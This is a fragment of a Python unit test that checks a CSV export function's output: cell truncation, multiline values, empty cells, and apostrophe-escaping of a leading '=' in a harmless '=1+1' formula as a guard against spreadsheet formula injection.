    rows = list(csv.reader(io.StringIO(csv_text(table), newline="")))
    assert rows[1:] == [
        ["ok", "plain", "a", "a"],
        ["two\n=lines", "'=1+1", long[: MAX_CELL_CHARS - 1] + "\u2026", "b\n+c"],
        ["3", "7", "1", "d"],
        ["", "x", "b", ""],
        ["2.5", "", "c", "e"],
    ]
